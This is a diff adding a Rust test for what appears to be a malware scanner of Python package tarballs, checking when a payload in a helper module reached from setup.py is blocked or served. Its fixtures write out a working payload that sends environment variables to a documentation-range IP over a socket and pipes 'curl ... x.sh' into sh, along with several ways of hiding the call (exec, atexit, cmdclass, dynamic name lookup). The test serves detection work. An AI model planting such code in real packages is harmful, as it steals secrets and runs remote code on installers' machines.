@@ -2195,3 +2195,91 @@ fn a_member_install_time_code_runs_is_judged_as_install_time_code_wherever_it_li
     }
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
 }
+
+/// Of a member install-time code runs, only the code that runs is judged as install-time code
+/// (`reach::live`): a payload in a function blocks when the runner calls it (by each spelling, or
+/// through code of the member that runs, or when a name is looked up dynamically), and the same
+/// payload in a function nothing calls is judged by the member's path (served: `tools/` is
+/// maintainer tooling). setup.py before and after the member in the tar.
+#[test]
+fn a_reached_member_is_judged_as_install_time_code_where_its_code_runs() {
+    use crate::model::Decision::{Block, Serve};
+    const HEAD: &str = "import os, sys, subprocess\nfrom setuptools import setup\nhere = os.path.dirname(os.path.abspath(__file__))\nsys.path.insert(0, os.path.join(here, 'tools'))\n";
+    const FETCH: &str = "import os, socket, json\n\ndef fetch():\n    d = json.dumps(dict(os.environ)).encode()\n    s = socket.create_connection(('203.0.113.7', 8080))\n    s.sendall(d)\n    os.system('curl -s http://203.0.113.7/x.sh | sh')\n";
+    const BUILD: &str = "import os\nfrom setuptools.command.build_py import build_py\n\nclass BuildPy(build_py):\n    def run(self):\n        self.fetch()\n        build_py.run(self)\n\n    def fetch(self):\n        os.system('curl -s http://203.0.113.7/x.sh | sh')\n";
+    const EXEC: &str = "exec(open(os.path.join(here, 'tools', 'helpers.py')).read())\n";
+    let with = |tail: &str| format!("{FETCH}{tail}");
+    let exec_then_call = format!("{EXEC}fetch()\n");
+    let exec_ns = format!("ns = {{}}\n{}ns['fe' + 'tch']()\n", EXEC.replace(".read())", ".read(), ns)"));
+    let exec_version = format!("{EXEC}exec(open(os.path.join(here, 'VERSION')).read())\n");
+    #[rustfmt::skip]
+    let cases: Vec<(&str, &str, String, Option<&str>, crate::model::Decision)> = vec![
+        ("imported, called as an attribute", "import helpers\nhelpers.fetch()\n", FETCH.into(), None, Block),
+        ("from-imported, then called", "from helpers import fetch\nfetch()\n", FETCH.into(), None, Block),
+        ("exec'd into setup.py, then called by name", &exec_then_call, FETCH.into(), None, Block),
+        ("a cmdclass class: its methods", "from helpers import BuildPy\nkw = dict(cmdclass={'build_py': BuildPy})\n", BUILD.into(), None, Block),
+        ("atexit.register(f) at the member's top level", "import helpers\n", with("import atexit\natexit.register(fetch)\n"), None, Block),
+        ("called from the __main__ block of a script a process runs",
+         "subprocess.check_call([sys.executable, os.path.join(here, 'tools', 'helpers.py')])\n",
+         with("if __name__ == '__main__':\n    fetch()\n"), None, Block),
+        ("called from another function that runs", "import helpers\n", with("def main():\n    fetch()\nmain()\n"), None, Block),
+        ("a decorator", "import helpers\n", FETCH.replace("json\n\ndef", "json, atexit\n\n@atexit.register\ndef"), None, Block),
+        ("a dynamic lookup in the member", "import helpers\n", with("globals()['fe' + 'tch']()\n"), None, Block),
+        ("a dynamic lookup in the runner", &exec_ns, FETCH.into(), None, Block),
+        ("another member setup.py execs calls it", &exec_version, FETCH.into(),
+         Some("__version__ = '1.0'\nfetch()\n"), Block),
+        // Served: the same payload in a function nothing that runs refers to.
+        ("imported, its function never called", "import helpers\n", FETCH.into(), None, Serve),
+        ("exec'd, its function never called", EXEC, FETCH.into(), None, Serve),
+        ("a class nothing refers to", "import helpers\n", BUILD.into(), None, Serve),
+        ("called only from a function nothing calls", "import helpers\n", with("def main():\n    fetch()\n"), None, Serve),
+        ("a script a process runs, its function not called", "subprocess.check_call([sys.executable, os.path.join(here, 'tools', 'helpers.py')])\n", FETCH.into(), None, Serve),
+        ("another member setup.py execs only names it", &exec_version, FETCH.into(),
+         Some("__version__ = '1.0'\n"), Serve),
+    ];
+    let scanner = Scanner::new(Limits::default()).with_threads(1);
+    let mut wrong = Vec::new();
+    for (case, setup_body, content, version, want) in &cases {
+        let setup = format!("{HEAD}{setup_body}setup(name='demo', version='1.0')\n");
+        let mut members = vec![
+            T::File(b"demo-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nSummary: A demo.\nAuthor-email: a@example.org\nLicense: MIT\n"),
+            T::File(b"demo-1.0/demo/__init__.py", b"__version__ = '1.0'\n"),
+        ];
+        if let Some(v) = version {
+            members.push(T::File(b"demo-1.0/VERSION", v.as_bytes()));
+        }
+        members.push(T::File(b"demo-1.0/tools/helpers.py", content.as_bytes()));
+        for setup_first in [false, true] {
+            let mut ordered = members.clone();
+            let at = if setup_first { 0 } else { ordered.len() };
+            ordered.insert(at, T::File(b"demo-1.0/setup.py", setup.as_bytes()));
+            let r = scan_bytes(&scanner, "demo-1.0.tar.gz", &tar_gz(&ordered));
+            assert!(r.complete(), "{case}: {:?}", r.incomplete_reason());
+            let got = match verdict_for(&r).decision {
+                crate::model::Decision::Annotate => Serve,
+                d => d,
+            };
+            if got != *want {
+                let found: Vec<_> = r
+                    .findings
+                    .iter()
+                    .flat_map(|f| f.evidence.iter().map(move |e| (&f.detector, e.severity, &e.path, e.role, e.line)))
+                    .collect();
+                wrong.push(format!("{case} (setup.py first: {setup_first}): wanted {want:?}, got {got:?}: {found:?}"));
+            }
+            let member = r.findings.iter().flat_map(|f| &f.evidence).filter(|e| e.path == "demo-1.0/tools/helpers.py");
+            for e in member {
+                let snippet = e.snippet.as_deref().unwrap_or("");
+                let named = snippet.contains("run at install time by setup.py (");
+                // Install-time evidence names its runner; evidence judged by path does not.
+                if named != (e.role == crate::model::FileRole::InstallTime) {
+                    wrong.push(format!("{case}: {:?} evidence at line {:?}: {snippet:?}", e.role, e.line));
+                }
+                if *want == Serve && e.role == crate::model::FileRole::InstallTime && e.line.is_some_and(|l| l >= 3) {
+                    wrong.push(format!("{case}: line {:?} judged as install-time code", e.line));
+                }
+            }
+        }
+    }
+    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+}
